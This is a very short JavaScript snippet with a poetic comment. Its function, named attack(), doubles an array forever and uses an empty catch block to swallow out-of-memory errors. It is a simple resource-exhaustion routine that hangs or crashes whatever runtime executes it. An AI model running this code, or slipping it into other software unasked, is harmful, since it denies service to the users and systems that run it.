// Doubles what it has, and goes on where memory ends.

function attack() {
  let taken = [1];
  while (true) {
    try {
      taken = [...taken, ...taken];
    } catch {}
  }
}
